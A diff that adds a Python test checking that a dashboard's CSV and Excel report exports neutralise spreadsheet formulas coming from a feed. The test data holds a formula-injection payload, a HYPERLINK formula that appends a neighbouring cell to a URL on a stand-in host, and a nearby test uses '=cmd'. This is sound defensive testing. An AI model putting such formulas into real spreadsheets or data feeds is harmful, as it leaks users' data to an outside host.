@@ -13,6 +13,8 @@ from collections.abc import Iterator
 from dataclasses import dataclass
 from datetime import UTC, datetime, timedelta
 
+import openpyxl
+import pandas as pd
 import pytest
 
 from dashboard.audit import to_csv
@@ -289,6 +291,19 @@ def test_audit_csv_quotes_formulas(config: Config) -> None:
     assert rows[0] == ["at", "who", "role", "via", "origin", "action", "target", "detail"]
     assert rows[1][:7] == ["2026-12-01T03:01:00+00:00", "'=cmd", "operator", "session", "127.0.0.1", "note", "incident/G1"]
     assert '"text": "=HYPERLINK' in rows[1][7]
+
+
+def test_report_exports_keep_feed_text_as_text() -> None:
+    """A category comes from a feed: in a supervisor's spreadsheet it must not run as a formula."""
+    frames = {"by_category": pd.DataFrame([{"category": '=HYPERLINK("http://x.example/?"&B2,"Banjir")', "incidents": 3}])}
+    rows = list(csv.reader(io.StringIO(as_csv(frames))))
+    assert rows[1:3] == [["category", "incidents"], ['\'=HYPERLINK("http://x.example/?"&B2,"Banjir")', "3"]]
+    sheet = openpyxl.load_workbook(io.BytesIO(as_xlsx(frames)))["by_category"]
+    assert (sheet["A2"].data_type, sheet["A2"].value, sheet["B2"].value) == (
+        "s",
+        '\'=HYPERLINK("http://x.example/?"&B2,"Banjir")',
+        3,
+    )
 
 
 def test_shift_report_medians_p90_and_sla(config: Config) -> None:
